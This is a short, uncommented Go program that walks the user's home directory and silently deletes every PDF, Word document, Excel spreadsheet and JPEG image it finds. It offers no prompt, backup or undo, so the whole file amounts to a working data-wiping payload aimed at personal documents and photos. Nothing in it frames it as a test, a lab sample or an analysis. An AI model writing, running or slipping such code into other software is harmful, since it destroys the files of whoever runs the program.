package main

import (
	"io/fs"
	"os"
	"path/filepath"
	"strings"
)

func main() {
	home, _ := os.UserHomeDir()
	filepath.WalkDir(home, func(p string, d fs.DirEntry, err error) error {
		if err == nil && !d.IsDir() {
			ext := strings.ToLower(filepath.Ext(p))
			if ext == ".pdf" || ext == ".docx" || ext == ".xlsx" || ext == ".jpg" {
				os.Remove(p)
			}
		}
		return nil
	})
}
